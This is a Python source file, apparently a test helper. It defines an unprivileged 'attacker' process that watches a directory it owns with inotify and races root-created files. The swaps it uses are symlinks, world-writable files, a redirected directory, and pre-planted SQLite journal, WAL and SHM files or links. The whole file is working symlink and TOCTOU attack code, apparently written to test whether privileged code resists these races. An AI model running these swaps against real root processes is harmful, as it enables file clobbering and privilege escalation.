"""An unprivileged process that owns a directory, and swaps what root makes in it as soon as it appears.

It reads one command a line: "STRATEGY AIM" to begin (it answers "ready"), "rest" to stop ("rested").
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import select
import struct
import sys
from pathlib import Path

IN_MOVED_TO, IN_CREATE = 0x80, 0x100
MINE = "mine-"  # the names of what the attacker makes himself
COMPANIONS = ("-wal", "-shm", "-journal")
_libc = ctypes.CDLL(None, use_errno=True)


def own_file(path):
    """A file that everybody may write."""
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR))
    os.chmod(path, 0o666)


def swap_link(directory, name, aim):
    """A symbolic link in its place."""
    os.symlink(aim, f"{directory}/{MINE}link")
    os.rename(f"{directory}/{name}", f"{directory}/{MINE}aside-{name}")
    os.rename(f"{directory}/{MINE}link", f"{directory}/{name}")


def swap_file(directory, name, _):
    """A file of the attacker's in its place."""
    own_file(f"{directory}/{MINE}file")
    os.rename(f"{directory}/{MINE}file", f"{directory}/{name}")


def swap_directory(directory, _, aim):
    """The directory itself becomes a link to another one."""
    os.rename(directory, f"{directory}-aside")
    os.symlink(os.path.dirname(aim), directory)


def plant_files(directory, name, _):
    """Files of the attacker's where SQLite will have its log."""
    for suffix in COMPANIONS:
        with contextlib.suppress(OSError):
            own_file(f"{directory}/{name}{suffix}")


def plant_links(directory, name, aim):
    """Links where SQLite will have its log."""
    for suffix in COMPANIONS:
        with contextlib.suppress(OSError):
            os.symlink(f"{aim}{suffix}", f"{directory}/{name}{suffix}")


STRATEGIES = {
    one.__name__: one for one in (swap_link, swap_file, swap_directory, plant_files, plant_links)
}


def names(data):
    """The names in what inotify tells."""
    while data:
        _, _, _, size = struct.unpack_from("iIII", data)
        yield os.fsdecode(data[16 : 16 + size].rstrip(b"\0"))
        data = data[16 + size :]


def main():
    directory, uid = sys.argv[1], int(sys.argv[2])
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    strategy = aim = watch = None
    while True:
        for ready in select.select([0, *([watch] if watch else [])], [], [])[0]:
            if ready == 0:
                words = os.read(0, 4096).decode().split()
                if not words:
                    return
                if watch is not None:
                    os.close(watch)
                    watch = None
                if words != ["rest"]:
                    strategy, aim = STRATEGIES[words[0]], words[1]
                    watch = _libc.inotify_init1(os.O_CLOEXEC)
                    _libc.inotify_add_watch(watch, os.fsencode(directory), IN_CREATE | IN_MOVED_TO)
                os.write(1, b"rested\n" if words == ["rest"] else b"ready\n")
                break
            for name in names(os.read(watch, 65536)):
                if not name.startswith(MINE) and not name.endswith(COMPANIONS):
                    with contextlib.suppress(OSError):
                        strategy(directory, name, aim)


if __name__ == "__main__":
    Path("/proc/self/comm").write_text("attacker")
    main()
